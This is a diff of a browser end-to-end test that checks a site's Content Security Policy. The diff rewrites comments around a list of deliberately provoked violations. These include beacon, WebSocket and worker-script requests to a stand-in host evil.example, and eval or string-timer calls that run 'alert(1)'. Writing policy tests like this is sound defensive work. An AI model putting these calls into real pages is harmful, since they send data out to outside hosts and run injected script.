@@ -8,7 +8,7 @@ journey(
   async ({ newPerson }) => {
     const person = await newPerson()
     const { page } = person
-    // Provoked, each of them.
+    // The journey provokes violations of the policy.
     person.expectFault(/./)
     await signInToHome(person, 'A05302')
     const seen = await watch(person)
@@ -46,11 +46,11 @@ journey(
         () => navigator.sendBeacon('https://evil.example/beacon'),
         () => new WebSocket('wss://evil.example/'),
         () => new Worker('https://evil.example/w.js'),
-        // As text a function is only read later, when nobody's tool allows it.
+        // The timer compiles this text after the evaluation, during which DevTools permits eval despite the policy.
         () => Reflect.apply(setTimeout, window, ['alert(1)', 0]),
         () =>
           new Promise((done) =>
-            // biome-ignore lint/security/noGlobalEval: it is what has to be stopped
+            // biome-ignore lint/security/noGlobalEval: the policy has to block it
             setTimeout(() => done(Reflect.apply(globalThis.eval, window, ['alert(1)'])), 0),
           ),
       ]
